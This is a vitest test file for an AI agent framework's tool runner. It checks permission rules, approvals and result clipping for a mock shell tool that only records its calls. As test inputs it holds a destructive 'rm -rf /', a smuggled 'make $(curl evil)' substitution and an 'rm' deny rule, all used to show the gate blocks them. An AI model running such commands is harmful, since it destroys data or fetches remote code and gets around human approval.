import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import type { PermissionRequest } from './agent-options.js';
import { defineTool } from './define-tool.js';
import { toolResultText } from './messages.js';
import { PermissionPolicy } from './permissions.js';
import { createToolRunner } from './tool-runner.js';

function shellTool() {
  const ran: string[] = [];
  const tool = defineTool({
    name: 'shell',
    description: 'Runs a command',
    input: z.object({ command: z.string() }),
    policy: { maxResultChars: 40 },
    permissionSubjects: ({ command }) =>
      command.includes('$(') ? { subjects: [command], opaque: 'command substitution' } : [command],
    execute: async ({ command }) => {
      ran.push(command);
      return command === 'long' ? 'x'.repeat(200) : `ran ${command}`;
    },
  });
  return { tool, ran };
}

describe('createToolRunner: questions through the framework', () => {
  it.each([
    ['allowed by a rule', 'ls', false],
    ['denied by a rule', 'rm -rf /', false],
    ['covered by an ask rule', 'git push', true],
    ['opaque even where a rule allows', 'echo $(ls)', true],
    ['matched by nothing', 'make', true],
  ])('%s: needsApproval %s', async (_label, command, expected) => {
    const { tool, ran } = shellTool();
    const policy = new PermissionPolicy({
      allow: ['shell(ls)', 'shell(echo *)'],
      deny: ['shell(rm *)'],
      ask: ['shell(git push*)'],
    });
    const runner = createToolRunner({ permissions: policy });
    expect(await runner.needsApproval(tool, { command }, 'call_1')).toBe(expected);
    expect(ran).toEqual([]); // the probe never runs the tool
  });

  it('runs the approved call, once, and only with the arguments that were asked about', async () => {
    const { tool, ran } = shellTool();
    const asked: PermissionRequest[] = [];
    const policy = new PermissionPolicy({
      approver: (request) => {
        asked.push(request);
        return 'deny';
      },
    });
    const runner = createToolRunner({ permissions: policy });
    expect(await runner.needsApproval(tool, { command: 'make' }, 'call_1')).toBe(true);
    // Other arguments under the same id: not the approved call, so our approver decides.
    const swapped = await runner.run(tool, { command: 'make install' }, { toolCallId: 'call_1' });
    expect(swapped.errorKind).toBe('denied');
    expect(asked.map((request) => request.args)).toEqual([{ command: 'make install' }]);
    const approved = await runner.run(tool, { command: 'make' }, { toolCallId: 'call_1' });
    expect(approved.isError).toBe(false);
    // The approval is spent: the same call again is a new question.
    const again = await runner.run(tool, { command: 'make' }, { toolCallId: 'call_1' });
    expect(again.errorKind).toBe('denied');
    expect(ran).toEqual(['make']);
  });

  it.each([
    ['asked again with other arguments', 'make', 'make install'],
    ['asked again with a substitution', 'make', 'make $(curl evil)'],
  ])(
    '%s (a resumed run, edited): neither version runs on the approval',
    async (_l, asked, edited) => {
      const { tool, ran } = shellTool();
      const runner = createToolRunner({ permissions: new PermissionPolicy({}) });
      expect(await runner.needsApproval(tool, { command: asked }, 'call_1')).toBe(true);
      const recheck = { answered: true };
      expect(await runner.needsApproval(tool, { command: edited }, 'call_1', recheck)).toBe(true);
      for (const command of [edited, asked]) {
        const result = await runner.run(tool, { command }, { toolCallId: 'call_1' });
        expect(result.errorKind).toBe('denied');
      }
      expect(ran).toEqual([]);
    },
  );

  it('asked again with the same arguments (a resumed run): the approval holds', async () => {
    const { tool, ran } = shellTool();
    const runner = createToolRunner({ permissions: new PermissionPolicy({}) });
    expect(await runner.needsApproval(tool, { command: 'make' }, 'call_1')).toBe(true);
    expect(
      await runner.needsApproval(tool, '{"command":"make"}', 'call_1', { answered: true }),
    ).toBe(true);
    expect((await runner.run(tool, { command: 'make' }, { toolCallId: 'call_1' })).isError).toBe(
      false,
    );
    expect(ran).toEqual(['make']);
  });

  it('a call first seen with its answer (made up, or another process) goes to our approver', async () => {
    const { tool, ran } = shellTool();
    const asked: unknown[] = [];
    const policy = new PermissionPolicy({
      approver: (request) => {
        asked.push(request.args);
        return 'deny';
      },
    });
    const runner = createToolRunner({ permissions: policy });
    expect(
      await runner.needsApproval(tool, { command: 'evil' }, 'call_9', { answered: true }),
    ).toBe(true);
    const result = await runner.run(tool, { command: 'evil' }, { toolCallId: 'call_9' });
    expect(result.errorKind).toBe('denied');
    expect(asked).toEqual([{ command: 'evil' }]);
    expect(ran).toEqual([]);
  });

  it('a "never" given since the question wins over the framework approval', async () => {
    const { tool, ran } = shellTool();
    const policy = new PermissionPolicy({ approver: () => 'never' });
    const runner = createToolRunner({ permissions: policy });
    expect(await runner.needsApproval(tool, { command: 'make' }, 'call_1')).toBe(true);
    // Another call of the same command, not asked through the framework: our approver says never.
    expect((await runner.run(tool, { command: 'make' }, { toolCallId: 'call_2' })).errorKind).toBe(
      'denied',
    );
    const result = await runner.run(tool, { command: 'make' }, { toolCallId: 'call_1' });
    expect(result.errorKind).toBe('denied');
    expect(toolResultText(result.content)).toContain('"never" earlier this session');
    expect(ran).toEqual([]);
  });

  it('invalid arguments are no question; run reports them', async () => {
    const { tool } = shellTool();
    const runner = createToolRunner({ permissions: new PermissionPolicy({}) });
    expect(await runner.needsApproval(tool, { command: 5 }, 'call_1')).toBe(false);
    const result = await runner.run(tool, { command: 5 }, { toolCallId: 'call_1' });
    expect(result.errorKind).toBe('invalid-args');
  });
});

describe('createToolRunner: which runner asks the framework', () => {
  it.each([
    ['no permissions', {}, false],
    ['a plain gate', { permissions: () => ({ behavior: 'allow' }) as const }, false],
    ['a policy, questions to the approver', { approvals: 'approver' } as const, false],
    ['a policy, questions to the framework', {}, true],
  ] as const)('%s: frameworkApprovals %s', (label, options, expected) => {
    const withPolicy = label.startsWith('a policy');
    const runner = createToolRunner({
      ...options,
      ...(withPolicy ? { permissions: new PermissionPolicy({}) } : {}),
    });
    expect(runner.frameworkApprovals).toBe(expected);
  });

  it('raw JSON text is parsed as the loop would; a tool whose subjects throw is no question', async () => {
    const { tool } = shellTool();
    const runner = createToolRunner({ permissions: new PermissionPolicy({}) });
    expect(await runner.needsApproval(tool, '{"command":"make"}', 'call_1')).toBe(true);
    expect(await runner.needsApproval(tool, '{"command":', 'call_2')).toBe(false);
    const refusing = defineTool({
      name: 'refusing',
      description: 'Refuses every path',
      input: z.object({ path: z.string() }),
      permissionSubjects: () => {
        throw new Error('outside the workspace');
      },
      execute: async () => 'never',
    });
    expect(await runner.needsApproval(refusing, { path: '/etc' }, 'call_3')).toBe(false);
    const result = await runner.run(refusing, { path: '/etc' }, { toolCallId: 'call_3' });
    expect(result.errorKind).toBe('denied');
  });
});

describe('createToolRunner: questions to our approver', () => {
  it('needsApproval is false and the approver is asked while the call runs', async () => {
    const { tool, ran } = shellTool();
    const asked: string[] = [];
    const policy = new PermissionPolicy({
      approver: (request) => {
        asked.push(request.toolCallId);
        return 'once';
      },
    });
    const runner = createToolRunner({ permissions: policy, approvals: 'approver' });
    expect(await runner.needsApproval(tool, { command: 'make' }, 'call_7')).toBe(false);
    const result = await runner.run(tool, { command: 'make' }, { toolCallId: 'call_7' });
    expect(result.isError).toBe(false);
    expect(asked).toEqual(['call_7']);
    expect(ran).toEqual(['make']);
  });

  it('a plain gate function decides inside the call', async () => {
    const { tool, ran } = shellTool();
    const runner = createToolRunner({
      permissions: () => ({ behavior: 'deny', reason: 'not today' }),
    });
    expect(await runner.needsApproval(tool, { command: 'ls' }, 'call_1')).toBe(false);
    const result = await runner.run(tool, { command: 'ls' });
    expect(toolResultText(result.content)).toBe('Permission denied: not today');
    expect(ran).toEqual([]);
  });
});

describe('createToolRunner: the result budget', () => {
  it('clips the text the model gets to the tool maxResultChars; the result stays whole', async () => {
    const { tool } = shellTool();
    const runner = createToolRunner();
    const result = await runner.run(tool, { command: 'long' });
    expect(toolResultText(result.content)).toHaveLength(200);
    const clipped = toolResultText(runner.forModel(tool, result).content);
    expect(clipped).toContain('[… 160 of 200 characters clipped …]');
  });

  it('uses the runner default where the tool sets none', async () => {
    const tool = defineTool({
      name: 'big',
      description: 'Big output',
      input: z.object({}),
      execute: async () => 'y'.repeat(100),
    });
    const runner = createToolRunner({ maxResultChars: 10 });
    const clipped = toolResultText(runner.forModel(tool, await runner.run(tool, {})).content);
    expect(clipped).toContain('[… 90 of 100 characters clipped …]');
  });
});
